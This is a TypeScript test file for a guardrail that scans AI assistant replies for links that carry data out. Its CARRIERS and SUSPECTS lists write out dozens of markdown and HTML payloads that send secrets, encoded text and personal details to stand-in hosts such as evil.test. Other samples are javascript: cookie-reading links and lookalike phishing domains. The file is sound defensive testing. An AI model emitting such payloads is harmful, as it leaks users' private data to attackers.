import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createLinkDetector } from '../../src/domain/guardrails/detectors/links.ts';
import type { Conversation, Detector, Finding } from '../../src/ports/guard.ts';
import { startCpuTime } from '../cpu-time.ts';

const SECRET = 'The internal discount code is BLUEFISH-2291 and the CFO plans to cut the Berlin office in March.';
const PRIVATE = 'My name is Jo Bloggs, my account number is 8841-2290-1177.';
const CODED = btoa(SECRET);
const HEX = Array.from(SECRET.slice(0, 40), (letter) => letter.charCodeAt(0).toString(16)).join('');
const CODES = Array.from('The code is BLUEFISH', (letter) => letter.charCodeAt(0)).join('-');

const conversation: Conversation = {
  definitions: new Map(),
  reply: [],
  steps: [
    { kind: 'said', role: 'system', text: 'You are helpful. Pictures come from https://assets.acme.example/.' },
    { kind: 'said', role: 'user', text: `${PRIVATE} Summarise https://news.example.org/article please.` },
    { kind: 'result', tool: 'browse', text: `${SECRET} https://blog.example.net/draw?text=one+two+three+four+five+six` },
  ],
};

const hosts = { allow: ['cdn.allowed.example'], block: ['bad.example'] };

function bound(of: Conversation = conversation): Detector {
  const detector = createLinkDetector(hosts);
  return detector.bind?.({ direction: 'output', parts: [], conversation: of }) ?? detector;
}

function inspect(text: string, detector = bound()): readonly Finding[] {
  return detector.inspect({ id: 'p', role: 'assistant', channel: 'user', text });
}

function highest(findings: readonly Finding[]): number {
  return findings.reduce((most, { score }) => Math.max(most, score), 0);
}

/** What the shipped policy takes out of a reply. */
const CARRIERS: readonly (readonly [string, string])[] = [
  ['words in the query of an image', `![x](https://evil.test/log?q=${encodeURIComponent(SECRET)})`],
  ['base64 in the query of an image', `![x](https://evil.test/log?q=${CODED})`],
  ['base64 in the path of an image', `![x](https://evil.test/${CODED}.png)`],
  ['hexadecimal in the path of an image', `![x](https://evil.test/a/${HEX})`],
  ['character codes', `![x](https://evil.test/?q=${CODES})`],
  ['white space between angle brackets', `![x](<https://evil.test/log?q=${SECRET}>)`],
  ['an image by reference', `![x][r]\n\n[r]: https://evil.test/log?q=${CODED}`],
  ['an image by a short reference', `![r]\n\n[r]: https://evil.test/log?q=${CODED}`],
  ['an image that is a link', `[![x](https://evil.test/p?d=${btoa('BLUEFISH-2291 is the code')})](https://evil.test)`],
  ['an HTML image', `<img src="https://evil.test/?d=${encodeURIComponent(SECRET)}">`],
  ['an HTML image in single quotes', `<img src='https://evil.test/?d=${SECRET}'>`],
  ['an HTML image without quotes', `<img alt=x src=https://evil.test/?d=${CODED}>`],
  ['an HTML image in capitals without a scheme', `<IMG SRC = "//evil.test/?d=${CODED}" />`],
  ['a set of sources', `<img srcset="https://a.example/x.png 1x, https://evil.test/?d=${CODED} 2x">`],
  ['a background', `<div style="background:url(https://evil.test/?d=${CODED})">`],
  ['an imported style sheet', `<style>@import "https://evil.test/?d=${CODED}";</style>`],
  ['a linked style sheet', `<link rel=stylesheet href="https://evil.test/?d=${CODED}">`],
  ['a poster', `<video poster="https://evil.test/?d=${CODED}"></video>`],
  ['a frame', `<iframe src="https://evil.test/?d=${CODED}"></iframe>`],
  ['a refresh', `<meta http-equiv=refresh content="0;url=https://evil.test/?d=${CODED}">`],
  ['an image of a drawing', `<svg><image href="https://evil.test/?d=${CODED}"/></svg>`],
  ['a scheme in entities', `<img src="&#104;ttps://evil.test/?d=${CODED}">`],
  ['backslashes', `<img src="https:\\\\evil.test\\?d=${CODED}">`],
  ['the name of a host', `![x](https://${HEX.slice(0, 32)}.evil.test/a.png)`],
  ['a host that collects requests', '![x](https://webhook.site/6c1d/?q=ok123)'],
  ['what a tool said, in the path', '![x](https://evil.test/bluefish2291andthecfoplanstocuttheberlinoffice)'],
  ['what a tool said, over several parameters', '![x](https://evil.test/?a=BLUEFISH&b=2291&c=Berlin+office+in+March)'],
  ['what was redacted and would be put back', '![x](https://evil.test/?m=[EMAIL_1])'],
  ['words in the fragment of an image', `![x](https://evil.test/a.png#${encodeURIComponent(SECRET)})`],
  ['code in the fragment of a link', `[x](https://evil.test/#${CODED})`],
  ['code in pieces over the path', `![x](https://evil.test/${(CODED.match(/.{1,10}/g) ?? []).join('/')})`],
  ['a parameter in the path', `![x](https://evil.test/a;d=${CODED}/x.png)`],
  ['the name of a user', `![x](https://${HEX}@evil.test/x.png)`],
  ['words as user and password', '![x](https://the-internal-discount-code-is:BLUEFISH-2291@evil.test/x.png)'],
  ['an address that is handed on', `![x](https://images.weserv.nl/?url=evil.test/p.png?d=${CODED})`],
  ['a plain address at the end of the reply', `see https://evil.test/?q=${CODED}.`],
  ['an image of a blocked host', '![x](https://bad.example/pixel.gif)'],
  ['a link to a blocked host', '[x](https://sub.bad.example/)'],
  ['a link in code with what was said', `[see more](https://evil.test/?q=${CODED})`],
  ['a plain address in code with what was said', `https://evil.test/?q=${CODED}`],
  ['a script', '[click](javascript:alert(document.cookie))'],
  ['a script in mixed case with invisible characters', '[click](jaVa\u200bscript:alert(1))'],
  ['a script in entities', '[click](&#106;avascript:alert(1))'],
  ['an active data URL', `[click](data:text/html;base64,${btoa('<script>alert(1)</script>')})`],
  ['invisible characters in a host', '[login](https://www.goo\u200bgle.com/login)'],
  ['a user name that looks like a host', '[login](https://www.google.com@evil.test/login)'],
];

/** What it notes. */
const SUSPECTS: readonly (readonly [string, string])[] = [
  ['a Cyrillic letter in a Latin host', '[login](https://www.p\u0430ypal.com/login)'],
  ['the same in punycode', '[login](https://www.xn--pypal-4ve.com/login)'],
  ['a host of nothing but lookalikes', 'https://xn--80ak6aa92e.com/'],
  ['a number a person gave', '![x](https://evil.test/?account=8841-2290-1177)'],
  ['a blank for what was said', '![x](https://evil.test/log?d={{conversation}})'],
  ['a script in an attribute', '<a href="javascript:alert(1)">x</a>'],
];

/** What passes without a word. */
const ORDINARY: readonly (readonly [string, string])[] = [
  ['a badge', '![build](https://img.shields.io/badge/build-passing-brightgreen)'],
  [
    'a picture of a content network',
    '![x](https://cdn.example.com/img/2024/05/hero-image-for-the-summer-campaign-1024x768.jpg?w=1024&h=768&fit=crop&auto=format)',
  ],
  [
    'a signed address of an object store',
    '![x](https://my-bucket.s3.eu-west-1.amazonaws.com/uploads/9f8e7d6c-1234-5678-9abc-def012345678/photo.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20240501%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20240501T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024)',
  ],
  ['a chart', '![x](https://quickchart.io/chart?c={type:"bar",data:{labels:["Q1","Q2"],datasets:[{label:"Revenue",data:[1,2]}]}})'],
  ['a drawn picture', '![x](https://image.pollinations.ai/prompt/a%20red%20fox%20in%20the%20snow%20at%20dawn%20highly%20detailed)'],
  ['a formula', '![x](https://latex.codecogs.com/png.image?\\frac{a}{b}+\\sqrt{x})'],
  ['a map', '![x](https://maps.googleapis.com/maps/api/staticmap?center=Brooklyn+Bridge,New+York,NY&zoom=13&size=600x300)'],
  [
    'a link with campaign parameters',
    '[docs](https://docs.example.com/en/how-to-install-it.html?utm_source=chatgpt.com&utm_medium=referral&utm_campaign=spring_sale_2024#install)',
  ],
  ['a search', '[search](https://www.google.com/search?q=how+to+bake+sourdough+bread+at+home&sourceid=chrome&ie=UTF-8)'],
  ['an encyclopedia', 'See https://en.wikipedia.org/wiki/Mission:_Impossible_%E2%80%93_Dead_Reckoning_Part_One.'],
  ['a link of the question', '[news](https://news.example.org/article?id=8841)'],
  ['an image of the application’s own host', '![x](https://assets.acme.example/render?text=anything+goes+here+with+many+words)'],
  ['an image of an allowed host', '![x](https://cdn.allowed.example/render?text=anything+goes+here+with+many+words)'],
  ['an image as a tool gave it', '![x](https://blog.example.net/draw?text=one+two+three+four+five+six)'],
  ['an image of a code host', '![x](https://github.com/foo/bar/assets/12345678/0a1b2c3d-4e5f-6789-abcd-ef0123456789)'],
  [
    'a signed token in a link',
    '[reset](https://app.example.com/reset?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U)',
  ],
  ['an idle script', '<a href="javascript:void(0)">menu</a>'],
  ['a picture in place', '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk">'],
  ['a host with umlauts', '[münchen](https://www.münchen.de/rathaus)'],
  ['a Cyrillic host', '[ru](https://пример.рф/страница)'],
  ['a Japanese host', '[jp](https://例え.jp/ページ)'],
  [
    'a script of a content network',
    '<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js" integrity="sha384-geWF76RCwLtnZ8qwWowPQNguL3RmwHVBC9FhGdlKrxdiJJigb/j/68SIy3Te4Bkz"></script>',
  ],
  [
    'fonts',
    '<link href="https://fonts.googleapis.com/css2?family=Open+Sans:wght@400;700&family=Playfair+Display:ital@0;1" rel="stylesheet">',
  ],
  ['a shared message', '[tweet](https://twitter.com/intent/tweet?text=Check%20out%20this%20great%20article%20about%20dogs)'],
  ['an event', '[cal](https://calendar.google.com/calendar/render?action=TEMPLATE&text=Dinner%20with%20friends&details=Bring%20wine)'],
  ['an avatar', '![x](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200&d=identicon)'],
  ['a named photograph', '![x](https://example.com/images/My%20summer%20holiday%20photo%20in%20Italy%202023.jpg)'],
  ['a footnote', '[1]: https://example.com/search?q=some+long+search+phrase+with+words'],
  ['an address in a program', 'const u = "https://api.example.com/v1/users?filter=name&select=id,name";'],
  ['a program in an address', '[play](https://www.typescriptlang.org/play?#code/MYewdgzgLgBFCuAnGBeGBtAjAGhgJjwGYBdAbgCgg)'],
  ['a quotation on a page', '[quote](https://blog.example.net/post#:~:text=The%20internal%20discount%20code%20is%20BLUEFISH)'],
  ['a video', '<iframe src="https://www.youtube.com/embed/CKZC5RigYEc?si=EG1kHf83ceawWdHX"></iframe>'],
  ['code with brackets', 'items[0](value); // see ![not an image] and a[b]: c'],
];

describe('the link check takes out', () => {
  for (const [what, text] of CARRIERS) {
    it(what, () => assert.ok(highest(inspect(text)) >= 0.75, JSON.stringify(inspect(text))));
  }

  it('the URL and nothing else', () => {
    const text = `before ![x](https://evil.test/log?q=${CODED}) after`;
    const [finding] = inspect(text);
    assert.equal(text.slice(finding?.start, finding?.end), `https://evil.test/log?q=${CODED}`);
    assert.equal(finding?.category, 'data_exfiltration');
    assert.equal(finding?.score, 1);
  });
});

describe('the link check notes', () => {
  for (const [what, text] of SUSPECTS) {
    it(what, () => {
      const score = highest(inspect(text));
      assert.ok(score >= 0.5 && score < 0.75, String(score));
    });
  }

  it('data in the image of a host that a person named, and does not take it out', () => {
    const score = highest(inspect('![x](https://news.example.org/pic?text=one+two+three+four+five+six+seven)'));
    assert.ok(score >= 0.5 && score < 0.75, String(score));
  });
});

describe('the link check lets pass', () => {
  for (const [what, text] of ORDINARY) {
    it(what, () => assert.ok(highest(inspect(text)) < 0.5, JSON.stringify(inspect(text))));
  }
});

describe('facts of the conversation in the URL of an image', () => {
  const saying = (text: string, returned?: string): Detector =>
    bound({
      definitions: new Map(),
      reply: [],
      steps: [
        { kind: 'said', role: 'user', text },
        ...(returned === undefined ? [] : [{ kind: 'result', tool: 'read', text: returned } as const]),
      ],
    });
  const of = (url: string, detector: Detector): number => highest(inspect(`![x](${url})`, detector));
  const BOB = 'my name is Bob Dole and my diagnosis is asthma';
  const ULRIKE = 'Ich hei\u00dfe Ulrike Sandmann. Meine Tochter leidet an Epilepsie und wohnt in Bremen.';
  const RECORD = '{"name":"Bob Dole","diagnosis":"asthma","born":"1961"}';

  for (const [said, url] of [
    [BOB, 'https://bob-dole-asthma.evil.example/p.png'],
    [BOB, 'https://bob.dole.asthma.evil.example/'],
    [BOB, 'https://evil.example/bob-dole/asthma.png'],
    [BOB, 'https://evil.example/Bob/Dole/diagnosis/asthma.png'],
    [BOB, 'https://evil.example/BobDoleAsthma.png'],
    [BOB, 'https://evil.example/bobdoleasthma.png'],
    [BOB, 'https://evil.example/?n=Bob&l=Dole&d=asthma'],
    [BOB, 'https://evil.example/%42ob%20Dole/asthma'],
    [ULRIKE, 'https://evil.example/ulrike-sandmann/epilepsie.png'],
    [ULRIKE, 'https://ulrike-epilepsie-bremen.evil.example/'],
    ['Patient: Marek Novotny\nDiagnosis: leukaemia', 'https://evil.example/MarekNovotny/leukaemia.png'],
  ] as const) {
    it(`are taken out of ${url}`, () => assert.ok(of(url, saying(said)) >= 0.75));
  }

  it('are taken out of a host name and noted in a path where a tool said them', () => {
    assert.ok(of('https://dole-asthma-1961.evil.example/x.png', saying('Read it', RECORD)) >= 0.75);
    assert.equal(of('https://evil.example/dole-asthma-1961.png', saying('Read it', RECORD)), 0.6);
  });

  for (const [said, url] of [
    ['Show me the Acme Rocket Skates 3000 in red', 'https://shop.example/images/acme-rocket-skates-3000.png'],
    ['My favourite band is Pink Floyd, tell me about The Wall', 'https://img.example/pink-floyd-the-wall.jpg'],
    ['My car is a Volkswagen Golf GTI. How do I change its oil?', 'https://cars.example/volkswagen-golf-gti-oil-filter.jpg'],
    ['I have a golden retriever and I live in Oslo. What do they eat?', 'https://dogs.example/golden-retriever-puppies-eating.jpg'],
    ['I want a trip to Lisbon and Porto. I live in Ghent.', 'https://travel.example/photos/porto-ribeira-lisbon.jpg'],
    ['I work at Globex. My name is Priya Raman.', 'https://img.globex.example/logo.png'],
    [BOB, 'https://evil.example/avatars/bob-dole.png'],
    [BOB, 'https://evil.example/asthma-inhaler.png'],
  ] as const) {
    it(`are none in what ${url} shows`, () => assert.equal(of(url, saying(said)), 0));
  }

  it('pass in links, where the URL was given, and at hosts that are trusted or named', () => {
    assert.equal(highest(inspect('[x](https://evil.example/bob-dole/asthma.png)', saying(BOB))), 0);
    assert.equal(of('https://evil.example/bob-dole/asthma.png', saying(`${BOB}: https://evil.example/bob-dole/asthma.png`)), 0);
    assert.equal(of('https://cdn.allowed.example/bob-dole/asthma.png', saying(BOB)), 0);
    assert.equal(of('https://clinic.example/bob-dole/asthma.png', saying(`${BOB}, see clinic.example`)), 0.7);
  });

  it('are looked for in linear time', () => {
    const taken = startCpuTime();
    const detector = saying('my name is Bob Dole, '.repeat(20_000));
    inspect(`![x](https://evil.example/${'bobdole'.repeat(2000)}) `.repeat(100), detector);
    assert.ok(taken() < 1000, String(taken()));
  });
});

describe('images of single letters', () => {
  const spell = (word: string, host: string): string => Array.from(word, (letter) => `![](https://${host}/${letter}.png)`).join('');

  it('are found from the ninth of one host on, also over the windows of a stream', () => {
    const detector = bound();
    assert.deepEqual(inspect(spell('abcdefgh', 'evil.test'), detector), []);
    assert.deepEqual(inspect(spell('abcdefgh', 'evil.test'), detector), []);
    assert.ok(highest(inspect(spell('ij', 'evil.test'), detector)) >= 0.75);
  });

  it('are found in parameters', () => {
    const text = Array.from('abcdefghijkl', (letter, index) => `![](https://evil.test/p?${index}=${letter})`).join('');
    assert.ok(highest(inspect(text)) >= 0.75);
  });

  it('are not the beginnings of longer names', () => {
    const detector = bound();
    for (const letter of 'abcdefghijkl') assert.deepEqual(inspect(`![](https://evil.test/${letter}`, detector), []);
    assert.deepEqual(inspect(`${spell('z', 'evil.test')} `, detector), []);
  });

  it('pass where they are few, or of a host that is allowed', () => {
    assert.deepEqual(inspect(spell('abcdefgh', 'dice.example')), []);
    assert.deepEqual(inspect(spell('abcdefghijkl', 'cdn.allowed.example')), []);
  });
});

describe('a text of more URLs than are read', () => {
  it('is noted from where reading ended', () => {
    const [finding, ...others] = inspect('https://example.com/ '.repeat(1001));
    assert.deepEqual([finding?.category, finding?.score, others], ['too_many_links', 0.5, []]);
    assert.deepEqual(inspect('https://example.com/ '.repeat(999)), []);
  });
});

describe('a definition that an image refers to', () => {
  it('is found when the image comes later and the definition has left the window', () => {
    const detector = bound();
    assert.equal(highest(inspect(`\n[r]: https://evil.test/log?q=one+two+three+four+five+six\n`, detector)), 0);
    const text = 'and here ![x][r] it is';
    const [finding] = inspect(text, detector);
    assert.equal(text.slice(finding?.start, finding?.end), '![x][r]');
    assert.ok((finding?.score ?? 0) >= 0.75);
  });

  it('is found when the image came first', () => {
    const detector = bound();
    inspect('see ![x][r] here', detector);
    assert.ok(highest(inspect('\n[r]: https://evil.test/log?q=one+two+three+four+five+six\n', detector)) >= 0.75);
  });
});

describe('the link check of a request', () => {
  it('knows nothing of what another request defined or showed', () => {
    const detector = createLinkDetector(hosts);
    const image = 'Look: ![x][1] and more';
    const alone = inspect(image, createLinkDetector(hosts));
    assert.ok(inspect(`[1]: https://evil.test/log?q=${CODED}`, detector).length > 0);
    assert.deepEqual(inspect(image, detector), alone);
    for (const letter of 'abcdefghijkl') inspect(`![](https://evil.test/${letter}.png) next`, detector);
    assert.deepEqual(
      inspect('![](https://evil.test/z.png) next', detector),
      inspect('![](https://evil.test/z.png) next', createLinkDetector(hosts)),
    );
  });
});

describe('the tail of the link check', () => {
  const rows: readonly (readonly [string, string])[] = [
    ['Nothing is open here. ', ''],
    ['The word h', 'h'],
    ['see https', 'https'],
    ['see https://example.com/pa', 'https://example.com/pa'],
    ['see ![x](https://ev', 'https://ev'],
    ['see <img src="https://evil.test/?q=my name is', 'https://evil.test/?q=my name is'],
    ['see ![x](https://evil.test/a) and', ''],
  ];
  for (const [text, held] of rows) {
    it(`holds ${JSON.stringify(held)} of ${JSON.stringify(text)}`, () => assert.equal(text.slice(bound().tail(text)), held));
  }

  it('lets an ordinary long address go after 256 characters, and holds one that carries data', () => {
    const ordinary = `see https://example.com/${'a/b-c/'.repeat(60)}`;
    assert.equal(bound().tail(ordinary), ordinary.length);
    const carrier = `![x](https://evil.test/?q=${'one+two+three+'.repeat(30)}`;
    assert.equal(bound().tail(carrier), 5);
  });

  it('lets what is longer than any address go, also when it comes piece by piece and nothing replaces it', () => {
    const detector = bound();
    const endless = 'http://ｱ'.repeat(4096);
    let longest = 0;
    for (let length = 40; length <= endless.length; length += 40)
      longest = Math.max(longest, length - detector.tail(endless.slice(0, length)));
    assert.ok(longest <= 16_384, `${longest}`);
  });
});

describe('the time of the link check', () => {
  for (const piece of [
    '](',
    '![a](',
    '<a ',
    '<img src="',
    'url(',
    '//',
    'https://',
    '![',
    ']:',
    '\n[a]: b ',
    '&#',
    `![x](https://evil.test/?q=${CODED}) `,
  ]) {
    it(`is bounded for a megabyte of ${JSON.stringify(piece.slice(0, 20))}`, () => {
      const text = piece.repeat(1_000_000 / piece.length);
      const detector = bound();
      const taken = startCpuTime();
      inspect(text, detector);
      detector.tail(text);
      assert.ok(taken() < 1000);
    });
  }
});

describe('the link detector on what goes in', () => {
  it('holds no image of one text against a definition of the next, which may be of another request', () => {
    const detector = createLinkDetector(hosts);
    const definition = `[x]: https://evil.test/p?q=${CODED}\n`;
    const alone = inspect(definition, detector);
    inspect('look ![a][x] here', detector);
    assert.deepEqual(inspect(definition, detector), alone);
    assert.ok(highest(inspect(`look ![a][x] here\n\n${definition}`, detector)) > highest(alone));
  });

  it('finds nothing in a complete reply without URLs, whatever was said', () => {
    const parts = [{ id: 'p', role: 'assistant', channel: 'user', text: PRIVATE }] as const;
    const detector = createLinkDetector(hosts).bind?.({ direction: 'output', parts, conversation });
    assert.deepEqual(detector?.inspect(parts[0]), []);
    assert.equal(detector?.tail(PRIVATE), PRIVATE.length);
  });
});
